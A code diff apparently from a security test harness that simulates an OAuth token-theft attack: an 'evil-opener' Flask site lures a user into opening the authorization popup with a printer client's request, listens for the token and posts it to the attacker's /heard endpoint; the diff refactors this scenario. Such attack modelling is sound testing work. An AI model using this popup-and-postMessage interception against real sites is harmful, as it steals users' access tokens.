@@ -25,15 +25,13 @@ from app.wire.popup import open_popup
 SWITCH = "client.message_origin"
 HEARD = "/heard"
 # All of it is as the printer itself would ask.
-REQUEST = with_query(
-    AUTHORIZATION_ENDPOINT,
-    {
-        "response_type": "token",
-        "client_id": "printer-page",
-        "redirect_uri": f"{CLIENT_ORIGIN}/cb",
-        "scope": ASKED_SCOPE,
-    },
-)
+ASKED = {
+    "response_type": "token",
+    "client_id": "printer-page",
+    "redirect_uri": f"{CLIENT_ORIGIN}/cb",
+    "scope": ASKED_SCOPE,
+}
+REQUEST = with_query(AUTHORIZATION_ENDPOINT, ASKED)
 SHOW = Markup('<button>Show me</button><form method="post" action="/heard"></form>')
 LISTEN = """
 document.querySelector("button").onclick = () => open("%s");
@@ -47,10 +45,10 @@ onmessage = ({data}) => {
 
 
 @cache
-def build() -> Flask:
+def build(asked: str) -> Flask:
     """The attacker's site: a page with a button, and where its script posts what it hears."""
     app = Flask("evil-opener", static_folder=None)
-    app.add_url_rule("/cats", "cats", lambda: scripted_page("Cats", SHOW, "listen", LISTEN % REQUEST), methods=["GET"])
+    app.add_url_rule("/cats", "cats", lambda: scripted_page("Cats", SHOW, "listen", LISTEN % asked), methods=["GET"])
     app.add_url_rule(HEARD, "heard", use, methods=["POST"])
     return app
 
@@ -63,14 +61,19 @@ def use() -> Response:
 
 def hosts(_: Mapping[str, str]) -> Hosts:
     """The attacker's site."""
-    return {EVIL: (ATTACKER, build())}
+    return {EVIL: (ATTACKER, build(REQUEST))}
 
 
 def script(world: World) -> None:
+    """The attacker's page opens the window with the request of the printer."""
+    through_window(world, EVIL, REQUEST)
+
+
+def through_window(world: World, site: str, asked: str) -> None:
     """Ana clicks on a button, and does in the window that opens what the pages of the authorization server ask."""
     owner, browser = Owner(world), Browser(world)
-    lure.follow_link(owner, browser)
-    popup = open_popup(browser, REQUEST, owner.clicks("click", "Show me"))
+    lure.follow_link(owner, browser, site)
+    popup = open_popup(browser, asked, owner.clicks("click", "Show me"))
     log_in_and_consent(owner, popup)
     heard, form = page.hand_over(popup), browser.page.form(HEARD)
     if heard and form:
